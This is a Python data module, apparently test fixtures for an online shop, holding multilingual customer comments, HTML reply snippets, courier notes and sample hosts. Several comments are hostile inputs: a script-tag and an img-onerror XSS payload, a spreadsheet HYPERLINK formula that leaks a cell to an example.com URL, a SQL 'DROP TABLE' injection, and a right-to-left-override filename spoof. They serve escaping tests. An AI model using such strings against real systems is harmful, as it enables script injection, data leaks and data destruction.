"""The texts of the sample: what customers wrote, what the shop answered, notes for the courier, addresses.

Customers write what they like: their comments are plain text, hostile pieces among them, and are shown encoded. The
answers come out of the shop's editor and are HTML, shown as such.
"""

COMMENTS = [
    "Arrived a day early, well packed. The lid sits a little loose, but my grandmother says that is how the old ones were "
    "too. Would buy again!",
    "Ordered two, got three: shall I send the third one back? I am happy to keep it, at the usual price < 50 & no more.",
    "5 stars ★★★★★ — nothing to complain about 😀👍",
    "Gift for my sister 🎁🎂. She loved it ❤️ and danced 💃🏽 with the whole family 👨‍👩‍👧.",
    "Der Karton war nass, der Inhalt trocken. Lieferung „an die Nachbarin“ – welche? Wir haben drei. Grüße aus der "
    "Donaudampfschifffahrtsgesellschaftskapitänswitwenwohnheimstraße 7.",
    "La boîte était abîmée ; l'objet, non. Service après-vente : 10/10, réponse en moins d'une heure. Merci !",
    "Очень красивый самовар, но ручка нагревается. Инструкция только на английском, а бабушка читает по-русски.",
    "Πολύ καλή ποιότητα, αλλά το χρώμα είναι πιο σκούρο από τη φωτογραφία.",
    "המשלוח הגיע בזמן, תודה! ההזמנה (מס' 4711) הייתה ארוזה היטב, והמחיר 74.00 ₪ הוגן.",
    "وصلت السجادة بحالة ممتازة، والألوان أجمل من الصورة. شكرا جزيلا! رقم الطلب 4711 (New York).",
    "थाली बहुत सुंदर है, पर एक किनारे पर खरोंच थी। दाम ₹1,250 ठीक है।",
    "เก้าอี้สวยมาก นั่งสบาย ส่งเร็ว",
    "急須の蓋が少し緩いですが、とても気に入りました。「常滑焼」の土の色が良いですね。また注文します。",
    "茶杯很漂亮，包装也很仔细。就是运费有点贵，希望下次能便宜一些。",
    "종이가 부드럽고 잉크가 번지지 않아요. 다음에는 더 큰 것을 주문할게요.",
    "<script>alert('Hello from a customer')</script>",
    "\"><img src=x onerror=\"alert(1)\"> </td></tr></table><!-- is this thing on? -->",
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click for a refund\")",
    "Robert'); DROP TABLE sales;-- and \\\"quotes\\\", back\\slashes, &amp; entities, ]]> and {{braces}} ${too}",
    "+49 30 901820 is my number, @ me any time; -1 for the wrapping",
    "Invoice \u202Egpj.exe\u202C is what your mail said. \u200EIs that a joke?",
    "First line\nsecond line\n\nand a last one after a gap.",
    "https://reviews.example.org/thread/00a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6"
    "?utm_source=newsletter&utm_medium=email",
    "Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaargh",
    "Mixed: שלום world عالم 世界 мир κόσμε — all in one line, with   three blanks and a\ttab.",
    "Too long; didn't read the manual. There are 48 pages in 11 languages, of which mine is none, and the drawings show "
    "a different model: the screws are on the left, the hinge is upside down, and step 7 comes before step 6. I called "
    "the hotline, waited for 40 minutes, and was told that this is intended. After all that it works like a charm, so I "
    "give four stars: three for the thing itself and one for the young man on the phone, who sang.",
    "ok",
    "…",
    "100% cotton? More like 50%.",
    "Ünïcödé ñøẗ ã prõblêm: Łódź, Þórshöfn, İstanbul, Ђурђевдан, Ⅷ, ½, ‰, €, ™, ﬁn.",
]

# An answer is a greeting, a middle, and an end. All of it is well-formed HTML.
GREETINGS = [
    "<p>Dear customer,</p>",
    "<p>Liebe Kundin, lieber Kunde,</p>",
    "<p>Bonjour,</p>",
    "<p>Здравствуйте!</p>",
    "<p>こんにちは。</p>",
    "",
]
ANSWERS = [
    "<p><b>Thank you</b> for the kind words; we have passed them on to the workshop.</p>",
    "<p>We are <i>very</i> sorry. A new one is on its way, see <a href=\"https://example.org/track?id=4711&amp;lang=en\">"
    "the tracking page</a>.</p>",
    "<p>Please keep the third one, with <u>our compliments</u>.<br>The price stays the same: 34.50 €.</p>",
    "<p>What helps:</p><ul><li>loosen the screw,</li><li><b>wait <i>ten</i> minutes</b>,</li><li>tighten it again.</li>"
    "</ul>",
    "<p>Die Gutschrift über <b>12,00&nbsp;€</b> ist <i>unterwegs</i>; Rückfragen bitte an "
    "<a href=\"mailto:service@example.org\">service@example.org</a>.</p>",
    "<p>&lt;script&gt; is what we call a <b>creative</b> review &amp; no, our shop does not run it.</p>",
    "<p>תודה רבה! <b>הזיכוי</b> בדרך אליך (20%).</p>",
    "<p>شكرا لك! <b>المبلغ</b> في الطريق إليك (20%).</p>",
    "<p>ご連絡ありがとうございます。<b>代わりの品</b>を<a href=\"https://example.org/jp\">発送</a>しました。</p>",
    "<p>The sizes in full:</p><pre>outer  40 x 30 x 22 cm\ninner  36 x 26 x 18 cm\nweight  2.4 kg</pre>",
    "<p>Our <b>manual</b> is being rewritten. The new one has 12 pages, shows <u>your</u> model and comes in 24 languages, "
    "<i>three of them made up</i> – ask for it at <a href=\"https://example.org/manuals\">example.org/manuals</a>, "
    "by mail to <a href=\"mailto:manuals@example.org\">manuals@example.org</a>, or at the counter.</p>",
]
ENDINGS = [
    "<p>Yours, <i>the team</i></p>",
    "<p>Mit freundlichen Grüßen<br><i>Ihr Team</i></p>",
    "",
]

# Plain text, and no markup characters among it.
NOTES = [
    "Leave it with the neighbours on the second floor, the ones with the blue door; ring twice and wait a little.",
    "Ring the bell.",
    "Bitte nicht vor 17 Uhr, und auf keinen Fall beim Hund abgeben: er öffnet alles. Danke für Ihre Mühe!",
    "Оставьте у консьержа, подъезд 3, код домофона 47К; после 20 часов он спит, но просыпается от чая.",
    "宅配ボックスに入れてください。暗証番号は注文番号の下四桁です。よろしくお願いします。ボックスが一杯の場合は管理人まで。",
    "אנא השאירו אצל השכן בקומה השנייה, דלת כחולה, ואל תצלצלו בין שתיים לארבע.",
    "यदि कोई घर पर न हो तो पड़ोसी को दे दें। धन्यवाद।",
    "Careful 📦: fragile, and so is the recipient before the first coffee ☕. Thank you 🙏!",
]

NAMES = ["ada", "b.bauer", "chloé.dupont", "dmitri", "eleni+shop", "f.o'hara", "gal", "hana_suzuki", "ingrid", "jürgen"]
HOSTS = ["example.org", "example.com", "shop.example.net", "müller.example", "例え.example"]
PATHS = ["", "/", "/about", "/products?id=7&lang=en", "/søk?q=te+kanne", "/a/very/long/path/to/a/page/nobody/ever/reads.html"]
